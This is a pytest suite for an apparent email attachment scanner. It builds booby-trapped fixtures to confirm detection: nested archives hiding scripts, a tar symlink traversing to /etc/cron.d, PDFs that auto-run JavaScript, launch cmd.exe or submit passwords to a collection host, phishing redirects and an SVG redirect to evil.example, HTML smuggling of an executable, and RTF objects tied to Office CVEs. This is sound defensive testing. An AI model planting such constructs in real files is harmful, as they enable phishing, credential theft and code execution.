"""Attachments looked into: archives inside archives, compressed files, tar and RAR
listings, archives named like documents, and what a PDF can do when opened. Each case was
met in real malicious mail (a zip in a zip holding a script, a ".pdf" that is a zip); the
files are built here."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.annotations import Link as PdfLink
from tests.mail.helpers import HOSPITAL, PE, message, zip_bytes

from rempart.mail.attachments import MAX_INNER_BYTES, examine, inspect
from rempart.mail.parse import Attachment, parse_message
from rempart.mail.pdfcheck import facts
from rempart.mail.score import score_message

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
SCRIPT = b"var s = WScript.CreateObject('WScript.Shell'); s.Run('calc');"


def keys(name: str, data: bytes) -> set[str]:
    return {
        f.key for f in inspect(Attachment(name, "application/octet-stream", data, len(data), ""))
    }


def test_zip_in_a_zip_holding_a_script() -> None:
    inner = zip_bytes({"doc_notice.js": SCRIPT})
    outer = zip_bytes({"notice94.zip": inner})
    att = Attachment("avis.zip", "application/zip", outer, len(outer), "")
    found = inspect(att)
    carried = [f for f in found if f.key == "att_archive_exec"]
    assert carried and carried[0].detail == "doc_notice.js"
    assert carried[0].name == "avis.zip/notice94.zip"
    # the same zip with documents only says nothing
    plain = zip_bytes({"docs.zip": zip_bytes({"rapport.txt": b"Rapport annuel"})})
    assert keys("docs.zip", plain) == set()


def test_archive_named_like_a_document() -> None:
    archive = zip_bytes({"facture.js": SCRIPT})
    assert {"att_disguised_archive", "att_archive_exec"} <= keys("facture.pdf", archive)
    # a Word document is a zip: no disguise
    docx = zip_bytes({"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<x/>"})
    assert keys("rapport.docx", docx) == set()
    assert "att_disguised_archive" not in keys("photos.zip", zip_bytes({"a.jpg": b"\xff\xd8"}))


@pytest.mark.parametrize(
    ("name", "pack"),
    [
        ("facture.exe.gz", gzip.compress),
        ("facture.exe.bz2", bz2.compress),
        ("facture.exe.xz", lzma.compress),
    ],
)
def test_single_file_compression_is_opened(name: str, pack: object) -> None:
    assert callable(pack)
    found = keys(name, pack(PE))
    assert "att_executable" in found  # by content
    assert "att_exec_name" not in keys("notes.txt.gz", gzip.compress(b"notes de service"))
    assert keys("notes.txt.gz", gzip.compress(b"notes de service")) == set()


def test_compression_bomb_is_not_opened_past_its_bound() -> None:
    bomb = gzip.compress(b"\x00" * (MAX_INNER_BYTES + 1024), compresslevel=9)
    assert len(bomb) < MAX_INNER_BYTES // 200
    assert keys("logs.gz", bomb) == {"att_zip_bomb"}
    assert keys("broken.gz", b"\x1f\x8b\x08" + b"\x00" * 40) == {"att_archive_broken"}


def _tar(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tf.addfile(info)
    return buf.getvalue()


def test_tar_and_tar_gz() -> None:
    tgz = gzip.compress(_tar({"scan/facture.scr": PE}))
    found = keys("scan.tgz", tgz)
    assert {"att_archive_exec", "att_executable"} <= found
    assert keys("photos.tar", _tar({"a.txt": b"bonjour"})) == set()
    evil = _tar({"a.txt": b"x"}, links={"b": "../../../etc/cron.d/x"})
    assert "att_path_traversal" in keys("b.tar", evil)


def _rar4(files: list[tuple[str, bytes, bool]]) -> bytes:
    """A RAR 4 archive of stored files (method 0x30), with per-file encryption flags."""

    def block(kind: int, flags: int, body: bytes, data: bytes = b"") -> bytes:
        head = struct.pack("<BHH", kind, flags, 7 + len(body)) + body
        return struct.pack("<H", zlib.crc32(head) & 0xFFFF) + head + data

    out = b"Rar!\x1a\x07\x00" + block(0x73, 0, b"\x00" * 6)
    for name, data, encrypted in files:
        raw = name.encode()
        body = (
            struct.pack(
                "<IIBIIBBHI",
                len(data),
                len(data),
                2,
                zlib.crc32(data),
                0x5A2B0000,
                20,
                0x30,
                len(raw),
                0x20,
            )
            + raw
        )
        out += block(0x74, 0x8000 | (0x04 if encrypted else 0), body, data)
    return out + block(0x7B, 0x4000, b"")


def test_rar_listing() -> None:
    assert "att_archive_exec" in keys("commande.rar", _rar4([("commande.exe", PE, False)]))
    assert "att_archive_encrypted" in keys("secret.rar", _rar4([("doc.pdf", b"%PDF-1.4", True)]))
    assert keys("photos.rar", _rar4([("a.jpg", b"\xff\xd8\xff", False)])) == set()
    assert keys("broken.rar", b"Rar!\x1a\x07\x00" + b"\xff" * 30) == {"att_archive_broken"}


def test_archives_that_are_not_opened_are_named() -> None:
    cab = b"MSCF\x00\x00\x00\x00" + bytes(60)
    ace = bytes(7) + b"**ACE**" + bytes(40)
    found = inspect(Attachment("facture.cab", "application/octet-stream", cab, len(cab), ""))
    assert [(f.key, f.detail) for f in found] == [("att_archive_opaque", "cab")]
    assert {"att_archive_opaque", "att_disguised_archive"} == keys("facture.pdf", ace)


def _7z(files: dict[str, bytes], password: str | None = None, *, hide: bool = False) -> bytes:
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", password=password) as archive:
        archive.header_encryption = hide
        for name, data in files.items():
            archive.writestr(data, name)
    return out.getvalue()


def test_7z_listing() -> None:
    assert keys("photos.7z", _7z({"a.jpg": b"\xff\xd8" + bytes(100)})) == set()
    found = {f.key: f for f in inspect(Attachment("p.7z", "", _7z({"facture.js": SCRIPT}), 0, ""))}
    assert found["att_archive_exec"].detail == "facture.js"
    # a password: the names still show, or are hidden too (header encryption)
    assert {"att_archive_encrypted", "att_archive_exec"} <= keys("p.7z", _7z({"a.exe": PE}, "x"))
    assert keys("p.7z", _7z({"a.exe": PE}, "x", hide=True)) == {"att_archive_encrypted"}
    # declared sizes far beyond the file: a bomb, as for zip
    assert "att_zip_bomb" in keys("big.7z", _7z({"zeros.bin": bytes(8 * 1024 * 1024)}))
    assert keys("broken.7z", b"7z\xbc\xaf\x27\x1c" + bytes(40)) == {"att_archive_broken"}


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF of these objects (1 is the catalog), with a correct cross-reference table."""
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def test_pdf_script_launch_form_and_embedded_file() -> None:
    plain = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE)
    assert keys("doc.pdf", plain) == set()
    # a script in the document's names (formatting scripts of forms look like this)
    js = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
        PAGES,
        PAGE,
        b"<< /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >>",
    )
    found = inspect(Attachment("doc.pdf", "application/pdf", js, len(js), ""))
    assert [(f.key, f.points) for f in found] == [("att_pdf_script", 20)]
    # run at opening: worth more
    auto = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /S /JavaScript /JS (app.alert(1)) >>",
    )
    found = inspect(Attachment("doc.pdf", "application/pdf", auto, len(auto), ""))
    assert [(f.key, f.points) for f in found] == [("att_pdf_script", 35)]
    launch = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /S /Launch /F (cmd.exe) >>",
    )
    assert "att_pdf_launch" in keys("doc.pdf", launch)
    form = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
        PAGES,
        PAGE,
        b"<< /FT /Tx /T (password) /A << /S /SubmitForm /F (https://collect.example/p) >> >>",
    )
    assert "att_pdf_form" in keys("doc.pdf", form)

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("facture.exe", PE)
    buf = io.BytesIO()
    writer.write(buf)
    assert {"att_pdf_embedded_exec", "att_executable"} <= keys("doc.pdf", buf.getvalue())


def test_pdf_embedded_file_is_inflated_within_its_bound() -> None:
    """A deflated embedded file of 60 MB (60 kB in the PDF) is read to 2 MB, not inflated."""
    bomb = zlib.compress(PE + b"\x00" * 60_000_000, 9)
    pdf = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(f) 4 0 R] >> >> >>",
        PAGES,
        PAGE,
        b"<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb)
        + bomb
        + b"\nendstream",
    )
    got = facts(pdf)
    assert [(n, len(c)) for n, c in got.embedded] == [("setup.exe", 2 * 1024 * 1024)]
    assert {"att_pdf_embedded_exec", "att_executable"} <= keys("doc.pdf", pdf)


def test_pdf_names_written_with_escapes_are_decoded() -> None:
    """`/J#61vaScript` is `/JavaScript` to a PDF reader (pdfid's obfuscated names)."""
    raw = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
    )
    got = facts(raw)
    assert got.javascript and got.auto_action and got.readable


def test_pdf_links_are_judged_like_the_message_links() -> None:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_annotation(0, PdfLink(rect=(10, 10, 100, 40), url="http://203.0.113.9/partage/doc"))
    buf = io.BytesIO()
    writer.write(buf)
    pdf = buf.getvalue()
    report = examine(
        parse_message(message(attachments=[("doc.pdf", pdf, "application/pdf")])).attachments
    )
    assert report.links == ["http://203.0.113.9/partage/doc"]
    v = score_message(message(attachments=[("doc.pdf", pdf, "application/pdf")]), HOSPITAL)
    assert "sig_link_ip" in v.signals, v.reasons


def test_hostile_pdfs_never_raise() -> None:
    for data in (
        b"%PDF-1.7\n" + b"\xff" * 500,
        b"%PDF-1.4\n1 0 obj << /URI (x) /Kids [1 0 R] >>",
        b"%PDF",
    ):
        got = facts(data)
        assert got.links in ([], ["x"])
    # a reference loop is walked once
    loop = raw_pdf(
        b"<< /Type /Catalog /A 2 0 R >>", b"<< /B 1 0 R /S /URI /URI (http://a.example/) >>"
    )
    assert facts(loop).links == ["http://a.example/"]
    # no cross-reference at all, as hostile files are made: read as raw bytes, like pdfid
    bare = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj\n"
    got = facts(bare)
    assert got.launch and not got.readable


def test_eight_bit_attachment_name_is_read_as_utf8() -> None:
    raw = message(attachments=[("x.zip", zip_bytes({"a.txt": b"x"}), "application/zip")])
    raw = raw.replace(b'filename="x.zip"', 'filename="ФНС_558.zip"'.encode())
    names = [a.name for a in parse_message(raw).attachments]
    assert names == ["ФНС_558.zip"]


def test_html_redirector_and_its_target() -> None:
    page = (
        b"<html><head><meta http-equiv='refresh' content='0; url=https://203.0.113.5/o365/login'>"
        b"</head><body>Chargement...</body></html>"
    )
    att = Attachment("Facture_0425.html", "text/html", page, len(page), "")
    links: list[str] = []
    found = {f.key: f for f in inspect(att, links=links)}
    assert found["att_html_redirect"].detail == "https://203.0.113.5/o365/login"
    assert links == ["https://203.0.113.5/o365/login"]
    scripted = b"<html><script>window.location.href = 'https://login.example.net/x?e=' + m;</script></html>"
    assert "att_html_redirect" in keys("doc.htm", scripted)
    built = b"<html><script>var u = atob(s); location.replace(u);</script></html>"
    assert "att_html_redirect" in keys("doc.htm", built)
    # a receipt saved as HTML goes nowhere
    receipt = b"<html><body><h1>Re\xc3\xa7u</h1><a href='https://shop.example/'>boutique</a></body></html>"
    assert keys("recu.html", receipt) == {"att_html"}
    v = score_message(message(attachments=[("Facture.html", page, "text/html")]), HOSPITAL)
    assert v.flagged and {"att_html_redirect", "sig_link_ip"} <= set(v.signals), v.reasons


def test_svg_with_script_even_under_another_name() -> None:
    svg = (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>window.location='https://evil.example/'</script></svg>"
    )
    assert {"att_svg_active", "att_html_redirect"} <= keys("scan.svg", svg)
    assert "att_svg_active" in keys("scan.png", svg)  # content, not name
    logo = b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'
    assert keys("logo.svg", logo) == {"att_html"}


def test_body_form_actions_are_judged_as_links() -> None:
    form = (
        "<p>Confirmez votre identifiant</p><form action='http://198.51.100.20/login.php' "
        "method='post'><input name='u'><input type='password' name='p'></form>"
    )
    v = score_message(message(html=form), HOSPITAL)
    assert {"sig_link_ip", "sig_body_password_form"} <= set(v.signals), v.reasons
    search = "<form action='/recherche'><input name='q'></form>"  # a relative action: no link
    assert "sig_link_ip" not in score_message(message(html=search), HOSPITAL).signals


_MAGICS = [
    b"PK\x03\x04",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000",
    bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3e716e3bd65261145a4c48d4d0b7a9eac"),
    b"ITSF",
    b'<html><a href="data:application/x-msdownload;base64,TVq',
    b"Rar!\x1a\x07\x00",
    b"Rar!\x1a\x07\x01\x00",
    b"\x1f\x8b\x08",
    b"BZh9",
    b"\xfd7zXZ\x00",
    b"7z\xbc\xaf\x27\x1c\x00\x04",
    b"%PDF-1.7\n",
    b"<svg ",
    b"<html><script>location.href='",
    b"MSCF",
]


@settings(max_examples=150, deadline=None)
@given(magic=st.sampled_from(_MAGICS), body=st.binary(max_size=3000), name=st.text(max_size=30))
def test_inspect_never_raises_on_hostile_bytes(magic: bytes, body: bytes, name: str) -> None:
    data = magic + body
    links: list[str] = []
    found = inspect(
        Attachment(name or None, "application/octet-stream", data, len(data), ""), links=links
    )
    assert all(f.points >= 0 for f in found)
    assert len(links) <= 200


# Files packaged in documents: built to the formats' specifications ([MS-OLEDS] 2.3 for
# OLE1 and Ole10Native, [MS-ONESTORE] 2.6.13 for OneNote's FileDataStoreObject)


def ole10native(name: str, content: bytes, *, prefix: bool = True) -> bytes:
    body = (
        struct.pack("<H", 2)
        + name.encode() + b"\0"
        + f"C:\\Users\\x\\{name}".encode() + b"\0"
        + struct.pack("<I", 0x00030000)
        + struct.pack("<I", len(name) + 8) + f"C:\\tmp\\{name}".encode() + b"\0"
        + struct.pack("<I", len(content)) + content
    )  # fmt: skip
    return (struct.pack("<I", len(body)) + body) if prefix else body


def ole_doc(streams: dict[str, bytes]) -> bytes:
    from tests.mail.cfb import write_cfb

    return write_cfb({"WordDocument": b"\xec\xa5" + b"\0" * 60, "ObjectPool": {"_1": streams}})


def rtf_object(class_name: bytes, native: bytes) -> bytes:
    ole1 = (
        struct.pack("<II", 0x0501, 2)
        + struct.pack("<I", len(class_name) + 1) + class_name + b"\0"
        + struct.pack("<II", 0, 0)
        + struct.pack("<I", len(native)) + native
    )  # fmt: skip
    return (
        b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass " + class_name + b"}"
        b"{\\*\\objdata " + ole1.hex().encode() + b"}}}"
    )


def test_ole_document_with_a_packaged_executable() -> None:
    doc = ole_doc({"\x01Ole10Native": ole10native("Facture.exe", PE)})
    found = {f.key: f for f in inspect(Attachment("facture.doc", "", doc, len(doc), ""))}
    assert found["att_office_package_exec"].detail == "Facture.exe"
    assert found["att_executable"].name == "facture.doc/Facture.exe"
    # a harmless packaged text: named, not judged an executable
    txt = ole_doc({"\x01Ole10Native": ole10native("notes.txt", b"liste des lits")})
    assert keys("notes.doc", txt) == {"att_office_package"}
    # an ordinary Word file embeds nothing
    assert keys("rapport.doc", ole_doc({"\x01CompObj": b"\x01\x00\xfe\xff"})) == set()


def test_rtf_package_and_exploit_objects() -> None:
    script = rtf_object(b"Package", ole10native("avis.hta", b"<script>x</script>", prefix=False))
    found = {f.key: f for f in inspect(Attachment("avis.rtf", "", script, len(script), ""))}
    assert found["att_office_package_exec"].detail == "avis.hta"
    # Equation Editor (CVE-2017-11882) and OLE2Link (CVE-2017-0199)
    equation = rtf_object(b"Equation.3", b"\x1c\x00" + b"A" * 40)
    found = {f.key: f for f in inspect(Attachment("doc.rtf", "", equation, len(equation), ""))}
    assert found["att_office_exploit"].detail == "Equation Editor"
    link = rtf_object(b"OLE2Link", b"\0" * 16)
    assert "att_office_exploit" in keys("lien.doc", link)  # content, not name, says RTF
    assert keys("texte.rtf", b"{\\rtf1\\ansi Bonjour\\par}") == set()


def test_rtf_objects_are_read_from_their_groups_only() -> None:
    """rtfobj reads text slowly (8.8 MB in 43 s): only the groups holding objects go to it,
    so an object behind a megabyte of padding is found, and text is never parsed whole."""
    from rempart.mail.officeobj import _TEXTISH_BYTES, MAX_OBJECTS, _object_groups

    script = rtf_object(b"Package", ole10native("avis.hta", b"<script>x</script>", prefix=False))
    padding = b"Bonjour le monde \\par " * 50_000
    padded = b"{\\rtf1\\ansi " + padding + script[len(b"{\\rtf1\\ansi") :]
    assert "att_office_package_exec" in keys("lettre.rtf", padded)
    assert len(_object_groups(padded)) < len(script) + 64
    assert _object_groups(b"{\\rtf1\\ansi " + padding + b"}") == b""
    # groups that never close, full of text: each cut short
    unclosed = b"{\\rtf1 " + (b"{\\object{\\*\\objdata " + padding) * 30
    assert len(_object_groups(unclosed)) <= MAX_OBJECTS * (_TEXTISH_BYTES + 1) + 16


def test_ooxml_remote_template_and_embedded_package() -> None:
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://cdn-office.example.net/t/Normal.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    docx = zip_bytes(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "word/_rels/settings.xml.rels": rels,
        }
    )
    links: list[str] = []
    found = inspect(Attachment("contrat.docx", "", docx, len(docx), ""), links=links)
    assert [f.key for f in found] == ["att_remote_template"]
    assert links == ["https://cdn-office.example.net/t/Normal.dotm"]
    # a hyperlink to the outside is ordinary
    plain = rels.replace(b"attachedTemplate", b"hyperlink")
    assert keys(
        "c.docx", zip_bytes({"word/document.xml": b"<w/>", "word/_rels/d.rels": plain})
    ) == (set())
    # an embedded OLE package, and an embedded workbook (judged by content only)
    bin_ = ole_doc({"\x01Ole10Native": ole10native("run.cmd", b"@echo off")})
    docx = zip_bytes(
        {
            "word/document.xml": b"<w:document/>",
            "word/embeddings/oleObject1.bin": bin_,
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zip_bytes(
                {"xl/workbook.xml": b"<w/>"}
            ),
        }
    )
    assert keys("note.docx", docx) == {"att_office_package_exec"}


def onenote(*files: bytes) -> bytes:
    from rempart.mail.officeobj import ONENOTE_MAGIC

    out = ONENOTE_MAGIC + b"\0" * 64
    for content in files:
        guid = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
        out += guid + struct.pack("<QIQ", len(content), 0, 0) + content
        out += b"\0" * (-len(content) % 8) + bytes.fromhex("22a7fb71790f0b4abb13899256426b24")
    return out


def test_onenote_with_embedded_files() -> None:
    hta = b'<HTA:APPLICATION ID="x"><script>new ActiveXObject("WScript.Shell")</script>'
    found = {f.key: f for f in inspect(Attachment("Facture.one", "", onenote(PNG, hta, PE), 0, ""))}
    assert found["att_onenote_embedded"].detail == "2"  # the picture is not counted
    assert found["att_executable"].name == "Facture.one/#2"
    # renamed, it is still read by its content; with photos only it says nothing
    assert "att_onenote_embedded" in keys("scan.dat", onenote(hta))
    assert keys("scan.dat", onenote(PNG, b"\xff\xd8\xff\xe0photo")) == set()


def test_chm_by_content_and_data_links_in_html() -> None:
    assert keys("aide.dat", b"ITSF\x03\x00\x00\x00" + b"\0" * 80) == {"att_chm"}
    page = (
        b'<html><body><a href="data:application/octet-stream;base64,'
        + base64.b64encode(PE)
        + b'" download="scan.exe">Ouvrir le document</a></body></html>'
    )
    found = {f.key: f for f in inspect(Attachment("doc.html", "", page, len(page), ""))}
    assert {"att_html_smuggling", "att_executable"} <= set(found)
    assert found["att_executable"].name == "doc.html/data:"
    # a newsletter inlining its pictures is not smuggling
    pic = b'<html><img src="data:image/png;base64,' + base64.b64encode(PNG) + b'"></html>'
    assert keys("lettre.html", pic) == {"att_html"}
